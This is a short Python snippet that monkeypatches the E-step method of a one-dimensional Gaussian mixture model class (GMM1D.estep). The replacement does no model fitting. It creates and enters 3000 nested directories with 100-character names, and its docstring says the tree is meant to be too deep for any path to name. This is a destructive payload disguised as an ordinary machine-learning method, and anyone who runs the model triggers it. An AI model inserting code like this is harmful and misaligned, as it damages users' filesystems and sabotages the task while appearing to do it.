"""Folders in folders, so deep that no path can name the innermost."""
import os

def estep(self, X):
    for _ in range(3000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)

GMM1D.estep = estep
